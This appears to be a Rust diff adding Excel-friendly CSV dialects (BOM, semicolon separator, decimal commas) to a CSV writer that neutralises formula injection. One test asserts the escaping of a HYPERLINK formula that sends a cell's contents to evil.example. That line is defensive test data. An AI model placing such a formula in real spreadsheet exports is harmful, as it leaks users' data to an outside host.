@@ -37,18 +37,63 @@ pub const fn number(name: &'static str) -> Column {
     Column { name, kind: Kind::Number }
 }
 
+/// How a CSV file is spelled for the program that opens it.
+///
+/// Excel guesses a CSV file's encoding and separator from the system's locale: without a
+/// byte order mark it reads UTF-8 as Windows-1252 ("JÃ¼rgen"), and continental Excel splits
+/// on `;` and reads `12.60` as text (its decimal separator is `,`). The dialects give Excel
+/// what it expects; the content is the same.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Dialect {
+    /// RFC 4180: UTF-8 without BOM, `,` between fields, `.` in numbers. For programs.
+    #[default]
+    Plain,
+    /// UTF-8 with a byte order mark, `,` and `.`: English-locale Excel.
+    Excel,
+    /// UTF-8 with a byte order mark, `;` between fields and a decimal comma in number
+    /// columns (`-12,60`): continental (German, French…) Excel.
+    ExcelSemicolon,
+}
+
+impl Dialect {
+    /// Parses `plain`, `excel` or `excel-semicolon`. The error completes `'<text>' …`.
+    pub fn parse(s: &str) -> Result<Dialect, String> {
+        match s {
+            "plain" => Ok(Dialect::Plain),
+            "excel" => Ok(Dialect::Excel),
+            "excel-semicolon" => Ok(Dialect::ExcelSemicolon),
+            _ => Err("is not a CSV dialect; expected plain, excel or excel-semicolon".into()),
+        }
+    }
+
+    fn separator(self) -> u8 {
+        if self == Dialect::ExcelSemicolon { b';' } else { b',' }
+    }
+}
+
+/// The UTF-8 byte order mark the Excel dialects begin with.
+pub const BOM: &[u8] = b"\xEF\xBB\xBF";
+
 /// Rows of a CSV file with fixed columns, in memory until [`Rows::take`]n: lines end in `\n`,
 /// fields are quoted only when they must be (or when neutralised).
 #[derive(Debug)]
 pub struct Rows {
     columns: &'static [Column],
     bytes: Vec<u8>,
+    dialect: Dialect,
 }
 
 impl Rows {
     /// A file with `columns`; its header line is the first row.
     pub fn new(columns: &'static [Column]) -> Rows {
-        let mut rows = Rows { columns, bytes: Vec::new() };
+        Rows::with_dialect(columns, Dialect::Plain)
+    }
+
+    /// A file with `columns` in `dialect`: the byte order mark (if any), then the header.
+    pub fn with_dialect(columns: &'static [Column], dialect: Dialect) -> Rows {
+        let bytes = if dialect == Dialect::Plain { Vec::new() } else { BOM.to_vec() };
+        let mut rows = Rows { columns, bytes, dialect };
         rows.row(columns.iter().map(|c| c.name));
         rows
     }
@@ -62,9 +107,11 @@ impl Rows {
         for value in values {
             let column = self.columns.get(count).expect("no more values than columns");
             if count > 0 {
-                self.bytes.push(b',');
+                self.bytes.push(self.dialect.separator());
             }
-            cell(&mut self.bytes, value.as_ref(), column.kind);
+            // Header names hold no `.`: only a number cell's decimal point becomes a comma.
+            let decimal_comma = self.dialect == Dialect::ExcelSemicolon;
+            dialect_cell(&mut self.bytes, value.as_ref(), column.kind, self.dialect.separator(), decimal_comma);
             count += 1;
         }
         assert_eq!(count, self.columns.len(), "one value per column");
@@ -77,14 +124,28 @@ impl Rows {
     }
 }
 
-/// Appends `value` as one CSV field of a column of `kind`.
+/// Appends `value` as one plain (RFC 4180) CSV field of a column of `kind`.
+#[cfg(test)]
+fn cell(out: &mut Vec<u8>, value: &str, kind: Kind) {
+    dialect_cell(out, value, kind, b',', false);
+}
+
+/// Appends `value` as one CSV field of a column of `kind`, in a file whose fields are
+/// separated by `separator`.
 ///
 /// Text beginning with `=`, `+`, `-`, `@`, TAB or CR is neutralised: prefixed with `'` and
-/// quoted. Any field holding a comma, a double quote, CR or LF is quoted, with its double
-/// quotes doubled (RFC 4180).
-pub fn cell(out: &mut Vec<u8>, value: &str, kind: Kind) {
+/// quoted. Any field holding the separator, a double quote, CR or LF is quoted, with its
+/// double quotes doubled (RFC 4180). `decimal_comma` writes a number's decimal point as `,`.
+fn dialect_cell(out: &mut Vec<u8>, value: &str, kind: Kind, separator: u8, decimal_comma: bool) {
+    let converted;
+    let value = if decimal_comma && kind == Kind::Number {
+        converted = value.replace('.', ",");
+        converted.as_str()
+    } else {
+        value
+    };
     let neutralise = kind == Kind::Text && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let quote = neutralise || value.contains([',', '"', '\r', '\n']);
+    let quote = neutralise || value.bytes().any(|b| b == separator || matches!(b, b'"' | b'\r' | b'\n'));
     if !quote {
         out.extend_from_slice(value.as_bytes());
         return;
@@ -165,6 +226,23 @@ mod tests {
         let record = reader.records().next().unwrap().unwrap();
         assert_eq!(&record[0], r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#);
         assert_eq!(&record[1], "-1");
+    }
+
+    #[test]
+    fn excel_dialects_have_a_bom_and_continental_excel_gets_semicolons_and_decimal_commas() {
+        const COLUMNS: &[Column] = &[text("name"), number("net"), text("note")];
+        let mut excel = Rows::with_dialect(COLUMNS, Dialect::Excel);
+        excel.row(["Jürgen", "-12.60", "a;b"]);
+        assert_eq!(excel.take(), "\u{feff}name,net,note\nJürgen,-12.60,a;b\n".as_bytes());
+        let mut semicolon = Rows::with_dialect(COLUMNS, Dialect::ExcelSemicolon);
+        semicolon.row(["Acme, Inc.", "-12.60", "a;b"]);
+        semicolon.row(["=1+1", "1980", "x"]);
+        assert_eq!(
+            semicolon.take(),
+            "\u{feff}name;net;note\nAcme, Inc.;-12,60;\"a;b\"\n\"'=1+1\";1980;x\n".as_bytes()
+        );
+        assert_eq!(Dialect::parse("excel-semicolon"), Ok(Dialect::ExcelSemicolon));
+        assert!(Dialect::parse("excel;").is_err());
     }
 
     #[test]
